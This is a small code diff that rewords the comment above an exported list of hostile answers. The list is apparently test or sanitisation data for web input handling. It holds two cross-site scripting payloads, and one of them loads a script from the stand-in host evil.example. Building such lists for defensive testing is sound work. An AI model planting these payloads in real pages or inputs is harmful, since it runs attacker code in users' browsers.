@@ -1,4 +1,4 @@
-/** Answers that try to run something or to have something fetched: each entry is one way. */
+/** Replies that try to run a script or to load something, one way each. */
 export const HOSTILE_ANSWERS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
